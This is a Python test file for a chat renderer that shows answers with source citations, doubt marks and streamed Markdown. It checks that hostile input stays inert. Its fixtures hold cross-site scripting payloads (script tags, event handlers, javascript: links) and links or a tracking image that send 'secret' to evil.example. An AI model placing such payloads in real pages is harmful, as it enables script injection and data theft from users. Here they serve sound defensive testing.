import re
from dataclasses import replace
from html import escape
from html.parser import HTMLParser

import pytest

from chat.answering.checking.citations import find_markers
from chat.pages.answer_text import render_whole_text
from chat.pages.cards import CitedPassage
from chat.pages.doubts import DoubtfulRange, add_doubt_remarks, count_checked_statements, find_doubtful_ranges
from chat.pages.plain_text import convert_to_plain_text
from chat.pages.rendering import render_answer
from chat.pages.streamed_rendering import RenderedLines, StreamedMarkdown, render_line_piece

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](//evil.example/)",
    "[click](/admin/logout/)",
    "![beacon](https://evil.example/?q=secret)",
    '<https://evil.example/"onmouseover=alert(1)>',
    '```"><script>alert(1)</script>\ncode\n```',
    "| a |\n|---|\n| <b onclick=x>b</b> |",
    "[1]: javascript:alert(1)\n\n[x][1]",
    "<div hx-get=/admin/ hx-trigger=load>",
    "&lt;script&gt;",
]
ALLOWED_TAGS = {
    "p", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "sup", "span", "div", "table", "thead",
    "tbody", "tr", "th", "td", "h3", "h4", "h5", "h6", "hr", "br", "s", "mark",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "href", "rel", "class", "tabindex", "role", "aria-label", "start", "title", "data-title", "data-where",
    "data-quote", "data-support", "data-doubt", "data-doubt-sign", "data-reason",
}  # fmt: skip


class Elements(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def cited(marker, **changes):
    values = {
        "marker": marker,
        "href": f"/documents/{marker}/?start=0&end=9#passage",
        "title": "Manual",
        "section": "Safety",
        "page": 3,
        "page_unit": "page",
        "quote": "Ten bar.",
        "support": 0.91,
    }
    return CitedPassage(**(values | changes))


def links(html):
    return [attributes for tag, attributes in Elements(html).found if tag == "a"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_are_shown_and_never_run(text):
    doubts = [DoubtfulRange(0, len(text), text)]
    for html in (render_answer(text, [cited(1)], doubts), render_line_piece(text, "x", {1: "T"})):
        for tag, attributes in Elements(html).found:
            assert tag in ALLOWED_TAGS
            assert set(attributes) <= ALLOWED_ATTRIBUTES
            href = attributes.get("href")
            assert href is None or re.match(r"https?://|mailto:|/documents/\d|#answer-", href), href


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_documents_cannot_break_out_of_a_citation(text):
    html = render_answer("Yes [1].", [cited(1, title=text, section=text, quote=text)])
    assert [tag for tag, _ in Elements(html).found] == ["p", "sup", "a"]
    assert links(html)[0]["data-title"] == text


REPEATED = "Pump 3 bar [1][1]. Valve 5 bar [1]."


@pytest.mark.parametrize(
    "text",
    [
        REPEATED,
        f"> {REPEATED}",
        f"- one\n  - {REPEATED}",
        f"## {REPEATED} ##",
        f"{REPEATED}\n=======\n",
        f"Lines\r\nends\r\n\r\n{REPEATED}",
        f"Tom &amp; \\[1\\] *so* `row[1]` {REPEATED}",
        "| part | pressure |\n|---|---|\n| Pump [1] | 3 bar \\| [1] |\n| Valve [1] | |",
        "| [1] | [1] |\n|---|---|\n| [1] | |",
        "- Pump `row[1]` [1]\n- **Pump [1]**\n- Valve [1]",
        "| a |\n|---|\n| 1 |\n\n[1][1]\n\n```\nrow[1]\n```\n\n[1]",
        "Pump [see [1]](https://evil.example/)\n*3 [1]* bar.\n    Valve [1].",
        "sku: MX-1; name: Pump [1]; weight_g: 3450 [1]; notes: `row[1]` [1]",
        "    row[1]\n\nPump [1], pump [1], valve [1].\n\n[1]: https://evil.example/\n",
    ],
)
def test_each_mention_leads_to_its_own_words(text):
    citations = [cited(1, href=f"/documents/{m.start}/", marker_start=m.start) for m in find_markers(text)]
    html = render_answer(text, citations, [DoubtfulRange(0, len(text), "x")])
    code = text.index("row[1]") + 3 if text.startswith("    ") else None
    wanted = [citation.href for citation in citations if citation.marker_start != code]
    assert [link["href"] for link in links(render_answer(text, citations))][:3] == wanted[:3]
    assert [link["href"] for link in links(html)][:3] == wanted[:3]


def test_a_marker_that_no_citation_stands_for_is_text():
    html = render_answer("Pump  [1]. Valve [1].", [cited(1, marker_start=17)])
    assert html.startswith("<p>Pump  [1]. Valve<sup")
    assert "cited-block" not in render_answer("Pump [1].\n\n[1]", [cited(1, marker_start=5)])


@pytest.mark.parametrize(
    ("text", "linked", "kept"),
    [
        (REPEATED, 3, "bar"),
        ("See [7] and a[0].", 0, "[7]"),
        ("[1](https://evil.example/) [see [1]](https://evil.example/)", 2, "see"),
        ("`list[1]`\n\n```python\nrow[1]\n```", 0, "list[1]"),
    ],
)
def test_a_marker_leads_to_its_source_and_brackets_elsewhere_are_text(text, linked, kept):
    html = render_answer(text, [cited(1)])
    names = [(link["href"], link["aria-label"], link["data-quote"]) for link in links(html)]
    assert names == [(cited(1).href, "Source 1: Manual, page\u00a03", "Ten bar.")] * linked
    assert kept in html


def test_the_words_of_a_deleted_document_can_still_be_read():
    html = render_answer("Yes [1].", [cited(1, href="")])
    assert links(html) == []
    note = next(attributes for tag, attributes in Elements(html).found if tag == "span")
    assert (note["data-quote"], note["tabindex"]) == ("Ten bar.", "0")


def doubted(text, *sentences):
    """Return the answer with these sentences in doubt."""
    doubts = [DoubtfulRange(text.index(said), text.index(said) + len(said), f"Why {said[:4]}") for said in sentences]
    return Elements(render_answer(text, [cited(1), cited(2)], doubts))


def test_a_sentence_in_doubt_is_marked_and_a_sign_behind_it_says_why():
    text = "It is **heavy** [1]. It weighs *ten* kilos [2]. It is blue."
    html = render_answer(text, [cited(1), cited(2)], [DoubtfulRange(21, 42, "A number.")])
    assert '<mark class="unsupported" data-doubt="0">It weighs </mark>' in html
    assert '<em><mark class="unsupported" data-doubt="0">ten</mark></em>' in html
    assert html.index("kilos</mark>") < html.index('class="doubt"') < html.index("It is blue")
    sign = next(attributes for _, attributes in Elements(html).found if "data-doubt-sign" in attributes)
    assert sign["aria-label"] == "Not supported by the sources. A number."
    assert (sign["role"], sign["tabindex"], sign["data-reason"]) == ("note", "0", "A number.")


def test_every_doubt_has_one_sign_in_the_order_of_the_text():
    text = "One is so [1]. Two is so.\n\n- Three `is` so.\n\n| Four |\n|---|\n| Five |\n"
    found = doubted(text, "One is so", "Two is so.", "Three `is` so.", "Five").found
    signs = [attributes["data-doubt-sign"] for _, attributes in found if "data-doubt-sign" in attributes]
    assert signs == ["0", "1", "2", "3"]


def test_a_doubt_about_nothing_that_is_shown_has_no_sign():
    assert "doubt" not in render_answer("Yes.\n\n---\n", [], [DoubtfulRange(6, 9, "x"), DoubtfulRange(40, 50, "x")])


def test_no_text_passes_for_a_mark():
    text = 'Say data-doubt="0"> and </mark> [1].'
    html = render_answer(text, [cited(1, quote='data-doubt="0"></mark>')], [DoubtfulRange(0, 3, "x")])
    assert html.startswith('<p><mark class="unsupported" data-doubt="0">Say</mark><span class="doubt"')


@pytest.mark.parametrize("block", ["| a |\n|---|\n| 1 |", "```\ncode\n```", "Said so:"])
def test_markers_in_a_paragraph_of_their_own_say_what_they_are(block):
    html = render_answer(f"{block}\n\n[1][2]\n\nAnd then [1].", [cited(1), cited(2)])
    assert '<p class="cited-block"><span class="cited-label">Sources</span><sup class="cite">' in html
    assert html.count("cited-block") == 1
    assert '<span class="cited-label">Source</span><sup' in render_answer(f"{block}\n\n[2]", [cited(2)])


@pytest.mark.parametrize(
    "text",
    [
        "[there](https://evil.example/?d=secret)",
        '[there](<https://evil.example/?d=secret> "title")',
        "[there][r]\n\n[r]: https://evil.example/?d=secret",
        "[there](https://good.example/a?d=secret)",
        "[there](https://good.example/a#secret)",
        "[there](https://good.example@evil.example/a)",
        "[there](https&#58;//evil.example/a)",
        "[there](https://g\u043e\u043ed.example/a)",
        "[there](mailto:me@evil.example?body=secret)",
        "[there](mailto:info@good.example?body=secret)",
        "<https://evil.example/secret>",
        "<me@evil.example>",
    ],
)
def test_an_address_that_no_cited_source_holds_is_text(text):
    html = render_answer(f"Go {text} now", [], (), ["https://good.example/a", "mailto:info@good.example"])
    assert links(html) == []
    words = Elements(html).text
    assert "there" in words or "<" in text
    assert "evil.example" in words or "xn--" in words or "good" in words
    assert "href" not in html
    # While it is written there is no link at all.
    shown = StreamedMarkdown("abc", {}).feed(f"{text}\n\n[a](https://good.example/a)\n\n\n")
    assert "href" not in shown.whole + shown.tail


def test_an_address_of_a_cited_source_is_a_link():
    text = "[there](HTTPS://good.example/a), [x](https://\u00e9.example/\u00e9) and <info@good.example>, *[b](https://e.example)*"
    addresses = ["https://good.example/a", "https://\u00e9.example/\u00e9", "mailto:info@good.example"]
    html = render_answer(text, [], (), addresses)
    assert [link["href"] for link in links(html)] == [
        "https://good.example/a",
        "https://xn--9ca.example/%C3%A9",
        "mailto:info@good.example",
    ]
    assert {link["rel"] for link in links(html)} == {"nofollow noopener noreferrer"}
    assert "<em>b (https://e.example)</em>" in html


def test_headings_rank_below_the_pages_own():
    assert [tag for tag, _ in Elements(render_answer("# A\n\n#### B\n\n###### C", [])).found] == ["h3", "h6", "h6"]


def test_a_streamed_marker_leads_to_the_source_beside_it():
    html = render_line_piece("10 bar `row[2]` [2][9].", "abc", {2: "Manual"})
    assert [link["href"] for link in links(html)] == ["#answer-abc-source-2"]
    assert html.startswith("10 bar row[2]<sup")
    assert "[9]" in html


@pytest.mark.parametrize(
    "text", ["Take `row[1]` and [1].\n", "```\nrow[1]\n\n- row[1]\n```\n\n[1]", "A `row[1]\nb` [1]\n"]
)
@pytest.mark.parametrize("size", [1, 4, 8, 1000])
def test_brackets_in_code_never_flash_up_as_links(text, size):
    stream = StreamedMarkdown("abc", {1: "One"})
    # Markers come whole.
    pieces = [match.group() for match in re.finditer(rf"(?s)(?:\[1\]|.){{1,{size}}}", text)]
    pieces = ["Before.\n\n", *pieces]
    html = ""
    for piece in pieces:
        more = stream.feed(piece)
        html = more.whole + more.tail if isinstance(more, RenderedLines) else html + more
        assert all(not before.endswith("row") for before in html.split("<sup")[:-1])
    assert len(links(html)) == 1


ANSWER = """Before **opening** it [1]:

1. Switch it off [1].
2. Close the valves.

| a | b |
|---|---|
| 1 | 2 |

```python
# not a heading

print(row[1])
```

Done <b>now</b> [2].
"""


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_a_streamed_answer_ends_as_the_whole_one_would(size):
    stream = StreamedMarkdown("abc", {1: "One", 2: "Two"})
    html = ""
    for at in range(0, len(ANSWER), size):
        shown = stream.feed(ANSWER[at : at + size])
        html = shown.whole + shown.tail if isinstance(shown, RenderedLines) else html + shown
    words = Elements(render_answer(ANSWER, [cited(1), cited(2)])).text
    assert Elements(html).text.split() == words.split()
    assert "<b>" not in html


def test_a_long_block_costs_no_more_than_its_length_times_a_constant():
    text = "```\n" + "line of code\n" * 3000
    stream = StreamedMarkdown("abc", {})
    sent = 0
    for line in text.splitlines(keepends=True):
        shown = stream.feed(line)
        sent += len(shown.whole + shown.tail) if isinstance(shown, RenderedLines) else len(shown)
    assert sent < 40 * len(text)


def test_the_nearest_place_is_marked_and_a_text_that_goes_on_links_to_the_rest():
    text = "It is green. It weighs 3450 g. … [1]"
    citation = replace(cited(1), marker_start=text.index("[1]"), verbatim=True, marked_start=13, marked_end=30)
    html = render_answer(text, [citation])
    assert '<mark class="nearest">It weighs 3450 g.</mark>' in html
    assert f'<a class="read-on" href="{escape(citation.href)}">Read on</a>' in html
    whole = render_answer("It weighs 3450 g. [1]", [replace(cited(1), verbatim=True)])
    assert "<mark" not in whole
    assert "read-on" not in whole


RECORD = "sku: MX-1; name: Pump; weight_g: 3450; notes: Drinking water; seal kit SK-1 [1]"


def test_each_column_of_a_record_has_a_line_of_its_own_and_its_name_stands_out():
    html = render_answer(RECORD, [cited(1)], [DoubtfulRange(start=0, end=len(RECORD) - 4, reason="No.")])
    assert '<p class="record">' in html
    lines = html.split("<br />")
    names = [re.sub("<.*?>", "", match[1]) for line in lines if (match := re.search("<strong>(.*?)</strong>", line))]
    assert names == ["sku", "name", "weight (g)", "notes"]
    assert "Drinking water; seal kit SK-1" in lines[3]
    assert 'class="cite"' in lines[3]
    assert html.count('<mark class="unsupported"') == html.count("</mark>") > 0


def test_the_cell_that_is_asked_for_is_large_and_the_others_are_folded():
    html = render_answer(f"weight: 3450 g [1]\n\n{RECORD}", [cited(1)])
    assert re.search(r'<p class="asked">weight: 3450 g', html)
    assert re.search(
        r'<details class="fields">\s*<summary>.*</summary>\s*<p class="record">.*</p>\s*</details>', html, re.S
    )
    assert "<details" not in render_answer(f"This is what is known of it.\n\n{RECORD}", [cited(1)])


def test_lines_that_begin_with_a_label_stay_lines():
    html = str(
        render_answer("From: Ann (ann@example.org)\nTo: Bob\nSent on: Monday\n\nThe crane hangs\nin hall 5.", {})
    )
    assert "(ann@example.org)<br>\nTo: Bob<br>\nSent on: Monday</p>" in html
    assert "The crane hangs\nin hall 5." in html


def test_what_a_record_holds_stays_text():
    html = render_answer("a: <b>1</b>; b: `x; y: 1`; c: *2*; d: [u](javascript:x); e: 5", [])
    assert "<b>" not in html
    assert links(html) == []
    assert "<code>x; y: 1</code>" in html
    quote = "Article: MX-1; Price: € 12.50; Note: a; b; Since: 2026-01-03\nOpen: yes; parking: no"
    assert cited(1, quote=quote).preview == (
        "Article MX-1 · Price € 12.50 · Note a; b · Since 2026-01-03 Open: yes; parking: no"
    )


@pytest.mark.parametrize(
    "prose",
    [
        "Open: yes; parking: no.",
        "Note: the pump hums; that is normal; leave it running; call nobody.",
        "One: 1; two: 2; three: 3;\nfour: 4",
    ],
)
def test_prose_is_no_record(prose):
    assert "record" not in render_answer(prose, [])


CHECKED = "It weighs ten kilos [1][2]. It is **blue**. It is old [3]!"


def statement(said, supported, *reasons):
    start = CHECKED.index(said)
    return {"start": start, "end": start + len(said), "supported": supported, "reasons": list(reasons)}


def test_only_what_was_checked_and_failed_is_in_doubt():
    statements = [
        statement("It is old", False, "words"),
        statement("It weighs ten kilos", True),
        statement("It is **blue**.", None),
    ]
    assert [(doubt.start, doubt.end) for doubt in find_doubtful_ranges(statements)] == [(44, 53)]
    assert count_checked_statements(statements) == 2
    assert find_doubtful_ranges([]) == ()


@pytest.mark.parametrize(
    ("reasons", "said"),
    [
        (["number", "name"], "A number in it is not in the source. A name in it is not in the source."),
        (["uncited"], "It names no source."),
        (["negation"], "The source seems to say the opposite."),
        ([], "The source does not say this in these words."),
        (["a code of tomorrow"], "The source does not say this in these words."),
    ],
)
def test_reasons_are_told_in_sentences(reasons, said):
    (doubt,) = find_doubtful_ranges([statement("It is old", False, *reasons)])
    assert doubt.reason == said


def test_copied_text_says_which_sentences_are_in_doubt():
    found = find_doubtful_ranges(
        [statement(said, False) for said in ("It weighs ten kilos", "It is **blue**.", "It is old")]
    )
    remark = "(not supported by the sources)"
    assert add_doubt_remarks(CHECKED, found) == (
        f"It weighs ten kilos [1][2]. {remark} It is **blue**. {remark} It is old [3]! {remark}"
    )
    assert add_doubt_remarks(CHECKED, ()) == CHECKED
    assert add_doubt_remarks("Yes", [DoubtfulRange(0, 3, "")]) == f"Yes {remark}"


@pytest.mark.parametrize(
    ("quote", "snippet"),
    [
        ("See [the **menu**](../menu.md) or [us](https://a.example/).", "See the menu or us."),
        ('2. Click it ![Screen](a.png){ class="shadow" }', "2. Click it"),
        ("| viewer | except private |      |    | no |", "viewer · except private · no"),
        ('!!! danger ""\n    Mind it.', "Mind it."),
    ],
)
def test_a_snippet_is_words_alone(quote, snippet):
    assert convert_to_plain_text(quote) == snippet


def test_a_table_shown_as_a_result_is_in_the_text_of_an_answer_once():
    table = {"caption": "Filters", "summary": "1 of 83 rows.", "columns": ["Filter", "Notes"], "rows": [["f", "a|b"]]}
    answer = {"answer": "See below. [1]", "alternatives": [], "choices": [], "refused": False, "table": table}
    rows = "| Filter | Notes |\n| --- | --- |\n| f | a\\|b |"
    assert render_whole_text(answer) == f"See below. [1]\n\nFilters: 1 of 83 rows.\n\n{rows}"
    assert render_whole_text({**answer, "answer": "| a |\n|---|\n| b |"}) == "| a |\n|---|\n| b |"
